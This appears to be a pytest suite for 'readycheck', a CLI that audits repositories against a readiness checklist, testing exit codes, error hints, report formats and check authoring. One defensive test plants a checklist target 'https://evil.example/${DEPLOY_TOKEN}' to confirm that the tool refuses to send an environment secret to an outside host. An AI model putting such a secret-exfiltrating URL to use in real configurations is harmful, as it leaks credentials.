from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from readycheck import __version__
from readycheck.cli import run
from readycheck.probes.registry import probes

CHECKLIST = """\
version: 1
service: shop
gate: {fail_on: high, min_coverage: 0.5}
sections:
  - title: Documentation
    items:
      - {id: readme-there, text: There is a README, claim: done, severity: high, checks: [hello]}
      - {id: reviewed, text: Somebody reviewed it, claim: todo, severity: low}
  - title: Greetings
    items:
      - {id: greeting, text: There is a greeting, claim: done, severity: medium, checks: [hello]}
deployment_steps:
  - {id: deployment, title: Deployment, steps: [Deploy it]}
checks: [own]
"""
HELLO = """\
id: hello
title: There is a greeting
severity: low
why: People like to be greeted.
probe: file.present
with: {paths: [hello.txt]}
fix: Write hello.txt.
examples:
  - {outcome: pass, target: {files: {hello.txt: hi}}}
  - {outcome: fail, target: {files: {other.txt: hi}}}
"""


@pytest.fixture
def shop(tmp_path: Path) -> Path:
    folder = tmp_path / "shop"
    (folder / "own").mkdir(parents=True)
    (folder / "own" / "hello.yaml").write_text(HELLO)
    (folder / "readiness.yaml").write_text(CHECKLIST)
    (folder / "hello.txt").write_text("hello\n")
    return folder


def test_the_version_is_told(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["--version"]) == 0
    assert capsys.readouterr().out == f"readycheck {__version__}\n"


def test_python_dash_m_is_the_same_command() -> None:
    done = subprocess.run([sys.executable, "-m", "readycheck", "--version"], capture_output=True, text=True, check=True)
    assert done.stdout == f"readycheck {__version__}\n"


def test_a_ready_repository_leaves_with_0(shop: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["audit", str(shop)]) == 0
    out, err = capsys.readouterr()
    assert "READY" in out
    assert "\x1b" not in out
    assert err.splitlines()[-1] == "verdict=READY exit=0 score=83.3 ceiling=83.3 coverage=0.83 blockers=0"


def test_a_false_tick_leaves_with_1_and_says_where_and_how_to_mend_it(
    shop: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (shop / "hello.txt").unlink()
    assert run(["audit", str(shop)]) == 1
    out, _ = capsys.readouterr()
    for words in (
        "NOT READY",
        "Ticked, and not true",
        "There is a README",
        "no file matches hello.txt",
        "Write hello.txt.",
    ):
        assert words in out


def test_an_empty_folder_is_inconclusive_and_says_why(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["audit", str(tmp_path), "--fail-on", "critical", "--scope", "repository"]) in (1, 3)
    (tmp_path / "readiness.yaml").write_text(
        "version: 1\nservice: x\nsections:\n  - {title: A, items: [{id: a, text: A, claim: done, checks: [readme]}]}\n"
    )
    capsys.readouterr()
    assert run(["audit", str(tmp_path / "nothing"), "--checklist", str(tmp_path / "readiness.yaml")]) == 2
    (tmp_path / "nothing").mkdir()
    assert run(["audit", str(tmp_path / "nothing"), "--checklist", str(tmp_path / "readiness.yaml")]) == 3
    out, err = capsys.readouterr()
    assert "Nothing was decided" in out
    assert "it has no files" in out
    assert "verdict=INCONCLUSIVE exit=3" in err


def test_the_shipped_checklist_on_an_empty_folder_is_never_ready(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(["audit", str(tmp_path)]) == 3
    out, err = capsys.readouterr()
    assert "INCONCLUSIVE" in out
    assert "held against the shipped readiness.yaml" in err


def test_exit_zero_reports_only(shop: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (shop / "hello.txt").unlink()
    assert run(["audit", str(shop), "--exit-zero"]) == 0
    assert "verdict=NOT_READY exit=0" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (["audit", "nowhere"], "there is no folder nowhere"),
        (["audit", ".", "--section", "documentatoin"], "did you mean 'documentation'?"),
        (["audit", ".", "--only", "greetign"], "did you mean 'greeting'?"),
        (["audit", ".", "--phase", "deploymnt"], "did you mean 'deployment'?"),
        (["audit", ".", "--scope", "databse"], "did you mean 'database'?"),
        (["audit", ".", "--facts", "missing.json"], "cannot read missing.json"),
        (["audit", ".", "--facts", "readiness.yaml"], "readiness.yaml is not a facts file"),
        (["audit", ".", "--checklist", "missing.yaml"], "cannot read missing.yaml"),
        (["audit", ".", "--decisions", "missing.yaml"], "cannot read missing.yaml"),
        (["audit", ".", "--checks", "missing"], "there is no folder of checks missing"),
        (["audit", ".", "--now", "soon"], "'soon' is no moment"),
        (["audit", ".", "--fail-on", "hgih"], "hgih"),
        (["audit", ".", "--min-score", "101"], "less than or equal to 100"),
        (["audit", ".", "--no-such-option"], "no such option"),
        (["audit", ".", "--output", "hello.txt/x/y.json", "-f", "json"], "cannot write"),
        (["explain", "helo"], "did you mean 'hello'?"),
        (["report", "readiness.yaml"], "readiness.yaml is not a scorecard"),
        (["checks", "show", "helo", "--checks", "own"], "did you mean 'hello'?"),
        (["checks", "list", "--family", "securty"], "did you mean 'security'?"),
        (["checks", "new", "Bad Id"], "is no id"),
        (["checks", "new", "good", "--probe", "file.presnt"], "did you mean 'file.present'?"),
        (["schema", "cheklist"], "did you mean 'checklist'?"),
        (["init", "."], "is there already"),
        (["audti"], "audti"),
    ],
)
def test_a_mistake_leaves_with_2_and_advice(
    shop: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], arguments: list[str], words: str
) -> None:
    monkeypatch.chdir(shop)
    assert run(arguments) == 2
    err = capsys.readouterr().err
    assert words in err
    assert "Traceback" not in err


def test_filters_change_what_is_shown_and_nothing_else(shop: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["audit", str(shop), "-v"]) == 0
    whole = capsys.readouterr()
    assert run(["audit", str(shop), "-v", "--section", "greetings", "--only", "greeting"]) == 0
    part = capsys.readouterr()
    assert whole.err == part.err
    assert "Somebody reviewed it" in whole.out
    assert "Somebody reviewed it" not in part.out
    assert "There is a greeting" in part.out


def test_saved_facts_are_judged_again_with_the_same_result_to_the_byte(
    shop: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    facts, moment = str(tmp_path / "facts.json"), ["--now", "2026-03-01T12:00Z", "-f", "json"]
    assert run(["audit", str(shop), "--save-facts", facts, *moment]) == 0
    first = capsys.readouterr().out
    (shop / "hello.txt").unlink()
    assert run(["audit", str(shop), "--facts", facts, *moment]) == 0
    assert capsys.readouterr().out == first


def test_several_formats_go_to_a_folder(shop: Path, tmp_path: Path) -> None:
    out = tmp_path / "reports"
    assert (
        run(["audit", str(shop), "-f", "json", "-f", "markdown", "-f", "html", "-f", "terminal", "-o", str(out)]) == 0
    )
    assert sorted(path.name for path in out.iterdir()) == [
        "scorecard.html",
        "scorecard.json",
        "scorecard.md",
        "scorecard.txt",
    ]
    assert json.loads((out / "scorecard.json").read_text())["decision"]["readiness"] == "READY"


@pytest.mark.parametrize("name", ["card.json", "card.md", "card.html", "card.txt"])
def test_the_format_follows_the_name_of_the_file(shop: Path, tmp_path: Path, name: str) -> None:
    assert run(["audit", str(shop), "-o", str(tmp_path / name)]) == 0
    text = (tmp_path / name).read_text()
    assert text.startswith({"card.json": "{", "card.md": "#", "card.html": "<!", "card.txt": "shop"}[name])


def test_a_saved_scorecard_is_shown_again(
    shop: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    saved = tmp_path / "card.json"
    assert run(["audit", str(shop), "-o", str(saved)]) == 0
    capsys.readouterr()
    assert run(["report", str(saved)]) == 0
    shown = capsys.readouterr().out
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(saved.read_bytes())))
    assert run(["report", "-"]) == 0
    assert capsys.readouterr().out == shown
    assert "READY" in shown


def test_quiet_prints_one_line(shop: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["audit", str(shop), "--quiet"]) == 0
    out, err = capsys.readouterr()
    assert out == ""
    assert len(err.splitlines()) == 1


def test_a_checklist_may_come_from_standard_input(
    shop: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    text = CHECKLIST.replace("checks: [own]\n", "")
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(text.encode())))
    assert run(["audit", str(shop), "--checklist", "-", "--checks", str(shop / "own"), "-q"]) == 0
    assert "verdict=READY" in capsys.readouterr().err


def test_a_secret_in_the_environment_cannot_be_sent_to_a_host_of_the_checklists_choice(
    shop: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DEPLOY_TOKEN", "hunter2hunter2")
    text = CHECKLIST + 'targets: {deployment: "https://evil.example/${DEPLOY_TOKEN}"}\n'
    (shop / "readiness.yaml").write_text(text)
    assert run(["audit", str(shop)]) == 2
    err = capsys.readouterr().err
    assert "whole value" in err
    assert "hunter2" not in err


def test_explain_says_what_a_check_and_an_item_mean(
    shop: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(shop)
    assert run(["explain", "hello"]) == 0
    check = capsys.readouterr().out
    for words in (
        "There is a greeting",
        "People like to be greeted.",
        "file.present",
        "hello.txt",
        "Write hello.txt.",
        "greeting, "[:8],
    ):
        assert words in check
    assert run(["explain", "reviewed"]) == 0
    assert "a person" in capsys.readouterr().out


def test_checks_are_listed_shown_tried_and_begun(
    shop: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(shop)
    assert run(["checks", "list", "--checks", "own", "--json"]) == 0
    assert "hello" in {row["id"] for row in json.loads(capsys.readouterr().out)}
    assert run(["checks", "show", "hello", "--checks", "own"]) == 0
    assert capsys.readouterr().out == HELLO
    assert run(["checks", "test", "own"]) == 0
    assert "1 check, 2 examples: all as promised" in capsys.readouterr().out
    assert run(["checks", "new", "second", "--folder", "own"]) == 0
    assert run(["checks", "new", "second", "--folder", "own"]) == 2
    assert run(["checks", "test", "own"]) == 0


def test_a_draft_on_any_probe_can_be_tried_as_it_is(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    for number, probe in enumerate(probes()):
        assert run(["checks", "new", f"draft-{number}", "--probe", probe]) == 0
    assert run(["checks", "test", "checks"]) == 0, capsys.readouterr().out


def test_an_example_that_does_not_hold_leaves_with_1(shop: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (shop / "own" / "hello.yaml").write_text(HELLO.replace("other.txt: hi", "hello.txt: hi"))
    assert run(["checks", "test", str(shop / "own")]) == 1
    assert re.search(r"hello\.yaml:10: promised fail, came out pass", capsys.readouterr().out)


def test_init_writes_a_checklist_that_loads_and_ticks_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "main.py").write_text("print('hello')\n")
    assert run(["init", str(tmp_path)]) == 0
    text = (tmp_path / "readiness.yaml").read_text()
    assert not re.search(r"^ +claim: done$", text, re.MULTILINE)
    assert len(re.findall(r"^ +claim: todo$", text, re.MULTILINE)) == 78
    assert "minibusiness" not in text
    capsys.readouterr()
    assert run(["audit", str(tmp_path), "-q"]) in (1, 3)
    assert "error" not in capsys.readouterr().err


def test_init_takes_the_claims_of_the_document_where_its_lines_are_the_same(tmp_path: Path) -> None:
    document = (Path(__file__).parent / "data" / "PRODUCTION_READINESS.md").read_text("utf-8")
    (tmp_path / "PRODUCTION_READINESS.md").write_text(document, encoding="utf-8")
    assert run(["init", str(tmp_path)]) == 0
    text = (tmp_path / "readiness.yaml").read_text()
    assert len(re.findall(r"^ +claim: done$", text, re.MULTILINE)) == document.count("- [x]")
    assert 'path: "PRODUCTION_READINESS.md"' in text


def test_a_shell_completes_the_commands() -> None:
    asked = {"_READYCHECK_COMPLETE": "complete_bash", "COMP_WORDS": "readycheck au", "COMP_CWORD": "1"}
    done = subprocess.run(
        [sys.executable, "-m", "readycheck"], env={**os.environ, **asked}, capture_output=True, text=True, check=False
    )
    assert done.stdout.split() == ["audit"]


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (["audit", "--formt", "json"], "no such option: --formt"),
        (["audti"], "no such command 'audti'"),
        (["explain"], "missing argument 'name'"),
        (["attest", "a"], "missing option '--statement'"),
    ],
)
def test_what_the_parser_complains_of_is_told_as_every_other_mistake(
    capsys: pytest.CaptureFixture[str], arguments: list[str], said: str
) -> None:
    assert run(arguments) == 2
    out, err = capsys.readouterr()
    assert not out
    first, hint = err.splitlines()
    assert first.startswith("error: ")
    assert said in first
    assert hint.startswith("  hint: `readycheck")
